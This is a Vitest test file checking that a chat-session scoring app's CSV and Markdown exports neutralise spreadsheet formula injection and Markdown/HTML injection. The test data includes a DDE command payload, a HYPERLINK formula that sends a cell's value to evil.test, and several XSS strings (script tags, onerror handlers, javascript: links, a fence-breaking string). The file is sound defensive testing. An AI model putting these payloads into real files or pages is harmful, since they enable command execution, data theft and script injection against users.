import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { analyzeConversation } from '../scoring/index';
import { sessionMessagesOf } from '../api/session-detail';
import type { SessionDetail } from '../api/types';
import { csvExport, markdownExport } from './formats';

const ALL = { includeMetadata: true, includeExplanations: true };

/** A scored session whose title and messages are what a hostile paste could contain. */
function sessionWith(title: string, contents: string[], extra: { sessionGoal?: string; projectContext?: string } = {}): SessionDetail {
  const result = analyzeConversation({ messages: contents.map((content, i) => ({ role: i % 2 ? 'assistant' : 'user', content })) });
  const avg = result.summary.dimensionAverages;
  return {
    session: {
      id: '00000000-0000-4000-8000-000000000001',
      title,
      platform: 'chatgpt',
      messageCount: contents.length,
      overallScore: result.summary.overallScore,
      createdAt: '2026-11-24T10:00:00.000Z',
      updatedAt: '2026-11-24T10:00:00.000Z',
      sessionGoal: extra.sessionGoal ?? null,
      projectContext: extra.projectContext ?? null,
      trend: 'stable',
      dimensionAverages: avg,
      strategicAvg: avg.strategic,
      tacticalAvg: avg.tactical,
      cognitiveAvg: avg.cognitive,
      innovationAvg: avg.innovation,
      contextAvg: avg.context,
      engineVersion: result.engineVersion,
      format: 'standard_labeled',
      parsingMethod: 'speaker_labels',
      metadata: {},
      summary: result.summary,
    },
    messages: sessionMessagesOf(result.messages),
    metadata: { projectContext: extra.projectContext ?? null, sessionGoal: extra.sessionGoal ?? null },
  };
}

describe('CSV export', () => {
  const FORMULAS = ['@SUM(1+1)*cmd|" /C calc"!A0', '=HYPERLINK("http://evil.test/?x="&A1,"click")', '+1+1', '-2+3', '\tTAB first', '\rCR first', '=1+1\nand a second line'];

  it('neutralises every cell a spreadsheet would read as a formula (OWASP: prefix a quote)', () => {
    const detail = sessionWith(FORMULAS[0]!, FORMULAS.slice(1), { sessionGoal: '=1+1' });
    const { data } = Papa.parse<Record<string, string>>(csvExport(detail, ALL).body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
    expect(data.map((r) => r.content)).toEqual(FORMULAS.slice(1).map((f) => `'${f}`));
    for (const row of data) {
      expect(row.session_title).toBe(`'${FORMULAS[0]}`);
      for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('leaves ordinary text and numbers as they are', () => {
    const detail = sessionWith('Plain title', ['How do I sort a list in Python?', 'Use sorted(items).']);
    const [row] = Papa.parse<Record<string, string>>(csvExport(detail, ALL).body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
    expect(row!.session_title).toBe('Plain title');
    expect(row!.content).toBe('How do I sort a list in Python?');
    expect(row!.overall).toMatch(/^\d+$/);
  });
});

/**
 * Splits Markdown the way a CommonMark viewer does into what it renders as markup (outside code
 * fences) and the verbatim contents of each fence. A fence closes only on a line of at least as
 * many backticks and nothing else.
 */
function readFences(md: string): { markup: string; blocks: string[] } {
  const markup: string[] = [];
  const blocks: string[] = [];
  let open: { fence: number; lines: string[] } | null = null;
  for (const line of md.split(/\r\n|\r|\n/)) {
    if (open) {
      const close = /^ {0,3}(`{3,})\s*$/.exec(line);
      if (close && close[1]!.length >= open.fence) {
        blocks.push(open.lines.join('\n'));
        open = null;
      } else open.lines.push(line);
      continue;
    }
    const start = /^ {0,3}(`{3,})[^`]*$/.exec(line);
    if (start) open = { fence: start[1]!.length, lines: [] };
    else markup.push(line);
  }
  if (open) markup.push(...open.lines);
  return { markup: markup.join('\n'), blocks };
}

describe('Markdown export', () => {
  const HOSTILE = [
    '<svg onload=alert(1)>',
    '<img src=x onerror=alert(2)>',
    '<script>alert(3)</script>',
    '[click me](javascript:alert(4))',
    'text </blockquote><iframe src="http://evil.test"></iframe>',
    '<a href="javascript:alert(5)">x</a> and ![img](javascript:alert(6)) and <javascript:alert(7)>',
    'a fence that tries to close early:\n```\n<script>alert(8)</script>\n````\nstill inside',
  ];

  it('shows every message verbatim inside a code fence that nothing in it can close', () => {
    const { blocks } = readFences(markdownExport(sessionWith('Hostile', HOSTILE), ALL).body);
    for (const content of HOSTILE) expect(blocks).toContain(content);
  });

  it('renders no raw HTML, javascript: link or blockquote escape outside the fences', () => {
    const md = markdownExport(sessionWith('<b onmouseover=alert(0)>[t](javascript:x)</b>', HOSTILE, { sessionGoal: '<img src=x onerror=alert(9)>', projectContext: 'x | y\n# not a heading' }), ALL).body;
    const { markup } = readFences(md);
    expect(markup).not.toMatch(/<[a-z/!?]/i);
    expect(markup).not.toMatch(/(^|[^\\])\]\(/);
    expect(markup).not.toMatch(/^# not a heading/m);
    // The title is still there for the reader, as text.
    expect(markup).toContain('# &lt;b onmouseover=alert(0)&gt;\\[t\\](javascript:x)&lt;/b&gt;');
  });

  it('escapes short fields only where Markdown would read markup, so the file reads as text', () => {
    const md = markdownExport(sessionWith('Q3 plan: cut costs (by 10%) - fast.', ['How do I sort a list?', 'Use sorted().'], { sessionGoal: '1. Ship it' }), ALL).body;
    expect(md).toContain('# Q3 plan: cut costs (by 10%) - fast.\n');
    expect(md).toContain('| Goal | 1\\. Ship it |');
  });

  it('keeps ordinary messages readable', () => {
    const md = markdownExport(sessionWith('Sorting', ['How do I sort a list in Python?', 'Use `sorted(items)`; it returns a new list.']), ALL).body;
    expect(md).toContain('# Sorting');
    expect(readFences(md).blocks).toEqual(expect.arrayContaining(['How do I sort a list in Python?', 'Use `sorted(items)`; it returns a new list.']));
  });
});

describe('the exports name what the parser found as the screens do', () => {
  it('platform, format and parser by their display names, not their ids', () => {
    const md = markdownExport(sessionWith('Sorting', ['How do I sort a list in Python?', 'Use sorted(items).']), ALL).body;
    expect(md).toContain('ChatGPT');
    expect(md).toContain('Labeled speakers');
    expect(md).toContain('Speaker labels');
    expect(md).not.toMatch(/standard_labeled|speaker_labels|\| chatgpt \|/);
  });
});
